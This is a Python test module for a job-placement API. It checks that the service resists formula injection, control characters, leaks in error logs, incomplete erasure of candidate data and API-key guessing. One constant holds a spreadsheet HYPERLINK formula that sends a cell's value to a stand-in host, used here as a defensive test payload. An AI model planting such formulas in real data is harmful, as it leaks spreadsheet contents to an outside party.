"""The API under bad input and abuse: formulas, control characters, errors, erasure, key guessing, protocol."""

from __future__ import annotations

import io
import logging
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import String, select, update

from api.http.app import create_app
from api.settings import Settings
from models.store import Store
from models.store import tables as t
from tests.api.test_api import AS_OF, problem
from tests.conftest import Api

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

FORMULA = '=HYPERLINK("http://example.invalid/?x="&B2,"Open rapport")'


def _obligation(api: Api) -> str:
    return str(api.get("/obligations?limit=1").json()["items"][0]["obligation_id"])


def _workbook(api: Api, role: str = "coach") -> str:
    r = api.get(f"/reports/monitoring.xlsx?today={AS_OF}", role=role)
    assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as book:
        return "".join(book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))


def test_a_formula_typed_into_a_shared_field_stays_text_in_every_workbook(api: Api) -> None:
    obligation = _obligation(api)
    r = api.patch(f"/obligations/{obligation}", role="adviseur", json={"client": FORMULA})
    assert r.status_code == 200, r.text
    content = _workbook(api, role="coach")
    assert "HYPERLINK" in content  # the text is shown...
    assert not re.search(r"<f[ >]", content)  # ...and never as a formula
    assert "'=HYPERLINK" in content


def test_a_control_character_is_refused_at_the_door(api: Api) -> None:
    obligation = _obligation(api)
    body = problem(api.patch(f"/obligations/{obligation}", json={"client": "Gemeente\u0004Groningen"}), 422)
    assert body["errors"][0]["field"] == "client"
    assert "U+0004" in body["errors"][0]["message"]
    upload = "contractor_id,name\nOPN-00001,Bouw\x0bbedrijf\n"
    body = problem(api.post("/contractors/upload", content=upload.encode(), headers={"Content-Type": "text/csv"}), 422)
    assert (body["errors"][0]["field"], body["errors"][0]["row"]) == ("name", 2)


def test_a_control_character_already_stored_breaks_no_workbook(api: Api) -> None:
    obligation = _obligation(api)
    with api.store.begin() as conn:  # written to the database directly, past validation
        conn.execute(
            update(t.obligations)
            .where(t.obligations.c.obligation_id == obligation)
            .values(client="Gemeente\x04Groningen")
        )
    with api.store.begin() as conn:
        api.store.bump_version(conn)
    content = _workbook(api)  # 200, whatever is stored
    assert "\x04" not in content


@pytest.fixture
def strict_client(api: Api) -> Iterator[TestClient]:
    """A client that lets an unhandled error escape the app, as it would reach the server's log."""
    with TestClient(api.client.app, raise_server_exceptions=True) as client:
        yield client


def test_an_unexpected_error_logs_its_type_only(
    api: Api, strict_client: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from api.services.reports import ReportService

    def broken(*args: object, **kwargs: object) -> None:
        raise ValueError("stored value Gemeente\x04Groningen of KND-000031")

    monkeypatch.setattr(ReportService, "report", broken)
    caplog.set_level(logging.DEBUG)
    r = strict_client.get(f"/api/v1/reports/monitoring?today={AS_OF}", headers=api.headers("coach"))
    assert problem(r, 500)["detail"]
    assert "ValueError" in caplog.text
    assert "KND-000031" not in caplog.text
    assert "Gemeente" not in caplog.text
    assert "Traceback" not in caplog.text
    assert strict_client.get("/healthz").status_code == 200  # the next request is answered as usual


def _text_columns() -> list[tuple[Any, Any]]:
    return [(table, c) for table in t.metadata.sorted_tables for c in table.columns if isinstance(c.type, String)]


def test_erasure_leaves_the_id_in_no_text_column(api: Api) -> None:
    with api.store.connect() as conn:
        who = conn.execute(
            select(t.placements.c.candidate_id)
            .join(t.candidates, t.candidates.c.candidate_id == t.placements.c.candidate_id)
            .where(t.candidates.c.region == "Groningen")
            .limit(1)
        ).scalar_one()
        vacancy = conn.execute(select(t.vacancies.c.vacancy_id).limit(1)).scalar_one()
    assert api.get(f"/candidates/{who}", role="coach").status_code == 200  # an audit path naming them
    r = api.post(
        "/suggestions/reject",
        role="coach",
        json={"candidate_id": who, "vacancy_id": vacancy, "reason": f"{who} wil niet reizen"},
    )
    assert r.status_code == 201, r.text
    r = api.post("/runs", role="adviseur", json={"scope": "region", "today": AS_OF, "forbidden": [[who, vacancy]]})
    assert r.status_code == 202, r.text
    run = api.wait_for_run(r.json()["run_id"])
    with api.store.begin() as conn:  # a run that failed on them
        conn.execute(update(t.match_runs).where(t.match_runs.c.run_id == run["run_id"]).values(error=f"{who}: fout"))
    longer = who + "0"  # an id that merely starts with theirs is someone else's
    with api.store.begin() as conn:
        conn.execute(update(t.decisions).values(reason=f"{who} wil niet reizen, {longer} wel"))
    assert api.delete(f"/candidates/{who}").status_code == 200
    whole = re.compile(rf"(?<![\w-]){re.escape(who)}(?![\w-])")
    found = []
    with api.store.connect() as conn:
        for table, column in _text_columns():
            for (value,) in conn.execute(select(column).where(column.like(f"%{who}%"))):
                if whole.search(value):
                    found.append(f"{table.name}.{column.name}")
        reasons = conn.execute(select(t.decisions.c.reason)).scalars().all()
    assert found == []
    assert all(longer in reason for reason in reasons if reason)
    audit = api.get("/audit?limit=500").json()["items"]
    assert not any(who in str(event) for event in audit)


@pytest.fixture
def throttled(sample_store: Store, db_url: str) -> Iterator[tuple[TestClient, TestClient]]:
    app = create_app(Settings(database_url=db_url, auth_failures_per_minute=5), store=sample_store)
    # one lifespan: the second client only sends from another address (entering the app twice would start
    # a second set of background services that the first exit does not stop, still reading the store
    # when the schema is dropped)
    with TestClient(app, raise_server_exceptions=False) as guesser:
        yield guesser, TestClient(app, raise_server_exceptions=False, client=("192.0.2.7", 50000))


def test_guessing_keys_is_throttled_with_retry_after(api: Api, throttled: tuple[TestClient, TestClient]) -> None:
    guesser, other = throttled
    good = {"X-API-Key": api.key("coach")}
    for _ in range(20):  # a valid key is never counted, never slowed
        assert guesser.get("/api/v1/me", headers=good).status_code == 200
    wrong = {"X-API-Key": "kop_guess_" + "x" * 43}
    assert [guesser.get("/api/v1/me", headers=wrong).status_code for _ in range(5)] == [401] * 5
    r = guesser.get("/api/v1/me", headers=wrong)
    body = problem(r, 429)
    assert 1 <= int(r.headers["Retry-After"]) <= 60
    assert "Retry-After" in body["detail"] or "try again" in body["detail"]
    assert guesser.get("/api/v1/me", headers=good).status_code == 429  # no oracle for a right guess
    assert guesser.get("/api/v1/me").status_code == 429  # nor for no key
    assert other.get("/api/v1/me", headers=good).status_code == 200  # another address is not held up


def test_options_names_the_allowed_methods(api: Api) -> None:
    r = api.client.options("/api/v1/candidates/KND-000001")
    assert r.status_code == 204
    assert set(r.headers["Allow"].split(", ")) == {"GET", "PATCH", "DELETE", "OPTIONS"}
    r = api.client.put("/api/v1/candidates/KND-000001", headers=api.headers())
    assert r.status_code == 405
    assert set(r.headers["Allow"].split(", ")) == {"GET", "PATCH", "DELETE", "OPTIONS"}


def test_timestamps_carry_their_time_zone(api: Api) -> None:
    row = api.get("/candidates?limit=1", role="coach").json()["items"][0]
    assert re.search(r"(Z|[+-]\d\d:\d\d)$", row["updated_at"]), row["updated_at"]
    event = api.get("/audit?limit=1").json()["items"][0]
    assert re.search(r"(Z|[+-]\d\d:\d\d)$", event["at"]), event["at"]


def test_every_status_the_api_answers_is_documented(api: Api) -> None:
    schema = api.client.get("/api/v1/openapi.json").json()
    assert "500" in schema["paths"]["/healthz"]["get"]["responses"]
    for path, operations in schema["paths"].items():
        if not path.startswith("/api/v1"):
            continue
        for method, operation in operations.items():
            documented = set(operation["responses"])
            missing = {"400", "401", "409", "415", "422", "429", "500"} - documented
            assert not missing, f"{method.upper()} {path} lacks {sorted(missing)}"


def test_an_authorization_header_that_is_not_a_bearer_key_is_refused(api: Api) -> None:
    """Credentials that do not parse are not ignored in favour of another header (found by schemathesis)."""
    key = api.headers("coach")
    assert api.client.get("/api/v1/me", headers=key).status_code == 200
    body = problem(api.client.get("/api/v1/me", headers={**key, "Authorization": "Basic a29wcGVsYWFy"}), 401)
    assert "Bearer" in body["detail"]
    bearer = {"Authorization": f"Bearer {key['X-API-Key']}"}
    assert api.client.get("/api/v1/me", headers=bearer).status_code == 200
